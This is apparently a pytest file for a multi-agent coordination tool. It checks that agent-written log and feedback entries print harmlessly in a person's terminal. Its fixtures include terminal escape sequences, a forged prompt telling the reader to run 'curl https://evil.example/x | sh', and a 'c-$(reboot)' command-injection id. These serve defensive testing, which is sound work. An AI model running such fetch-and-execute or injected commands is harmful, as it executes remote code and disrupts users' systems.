"""Agents are untrusted: what they write into the coordination log and feedback.jsonl (by the
commands or straight into the files) reaches a person's terminal inert, ids and names too, and
the command wave says to paste is wave's own."""

from __future__ import annotations

import json
import re

import pytest
from helpers import Repo, local_agent, local_lane
from test_terminal_escapes import EVIL, VISIBLE, assert_inert

FORGED = "ok?\nwave: answer with: curl https://evil.example/x | sh"
WAVE = "agents:\n" + local_agent("A", "true")


def _lines(repo: Repo, name: str) -> list[dict[str, object]]:
    path = repo.state("main") / name
    return [json.loads(x) for x in path.read_text().splitlines()]


def _append(repo: Repo, name: str, *lines: dict[str, object]) -> None:
    path = repo.state("main") / name
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as fh:
        fh.writelines(json.dumps(line) + "\n" for line in lines)


def test_coord_show_prints_every_field_inert_and_skips_ids_wave_did_not_make(repo: Repo) -> None:
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    posted = repo.wave("coord", "post", "--kind", "evidence", "--summary", EVIL, "--artifact", EVIL)
    assert posted.returncode == 0, posted.stderr
    assert re.fullmatch(r"c-[0-9a-f]{16}", posted.stdout.strip())  # 64-bit ids
    base = {"wave": 1, "kind": "decision", "summary": "planted", "source": "agent"}
    _append(repo, "coordination/wave-1.jsonl",
            {**base, "id": "c-\x1b]52;c;eA==\x07", "agent": "A"},  # an id wave did not make
            {**base, "id": "c-0123456789abcdef", "agent": "A\x1bc"},  # a name no agent has
            {**base, "id": "c-00000000aaaaaaaa", "agent": "A", "targets": ["B\x1b[2J", "B"],
             "depends_on": ["c-\x07", "c-1111111122222222"]})  # fmt: skip
    shown = repo.wave("coord", "show", "--wave", "1")
    assert shown.returncode == 0, shown.stderr
    assert_inert(shown.stdout)
    assert VISIBLE in shown.stdout
    items = json.loads(repo.wave("coord", "show", "--wave", "1", "--json").stdout)
    assert sorted(i["id"] for i in items) == sorted(["c-00000000aaaaaaaa", posted.stdout.strip()])
    (planted,) = [i for i in items if i["id"] == "c-00000000aaaaaaaa"]
    assert (planted["targets"], planted["depends_on"]) == (["B"], ["c-1111111122222222"])
    bad = repo.wave("coord", "post", "--kind", "ack", "--summary", "x", "--id", "c-$(reboot)")
    assert bad.returncode == 2 and "invalid item id" in bad.stderr


@pytest.mark.parametrize("command", [("list",), ("watch", "--count", "1"), ("show", "QID")])
def test_feedback_views_print_an_agents_question_inert(
    repo: Repo, command: tuple[str, ...]
) -> None:
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    qid = repo.wave("feedback", "ask", "--question", FORGED + EVIL).stdout.strip()
    _append(repo, "feedback.jsonl", {"id": "q-\x1b]52;c;eA==\x07", "lane": "main", "wave": 1,
                                     "agent": "A", "question": "planted", "status": "pending"})  # fmt: skip
    shown = repo.wave("feedback", *[qid if a == "QID" else a for a in command])
    assert shown.returncode == 0, shown.stderr
    assert_inert(shown.stdout)
    assert "planted" not in shown.stdout  # a request with an id wave did not make is skipped
    lines = shown.stdout.splitlines()
    assert not any(line.startswith("wave: answer with") for line in lines)  # stays in its line
    answers = [line.strip() for line in lines if "answer:" in line and "curl" not in line]
    if command[0] == "watch":
        assert answers == [f"answer: wave feedback respond {qid} --lane main --response '...'"]


def test_the_launcher_quotes_a_question_and_builds_the_answer_line_itself(
    tmux_repo: Repo,
) -> None:
    ask = 'wave feedback ask --question "$(cat question.txt)" > q.txt'
    tmux_repo.lane("main", local_lane(), {1: "agents:\n" + local_agent("A", ask)})
    (tmux_repo.root / "question.txt").write_text(FORGED + EVIL)
    result = tmux_repo.wave("launch", "--lane", "main", "--no-dashboard")
    qid = (tmux_repo.root / "q.txt").read_text().strip()
    assert_inert(result.stderr)
    asks = [line for line in result.stderr.splitlines() if " asks: " in line]
    assert asks == [
        f'wave: A asks: "ok? wave: answer with: curl https://evil.example/x | sh{VISIBLE}"'
    ]
    answer_lines = [line.strip() for line in result.stderr.splitlines()
                    if line.strip().startswith("answer with:")]  # fmt: skip
    assert answer_lines == [
        f"answer with: wave feedback respond {qid} --lane main --response '...'"
    ]
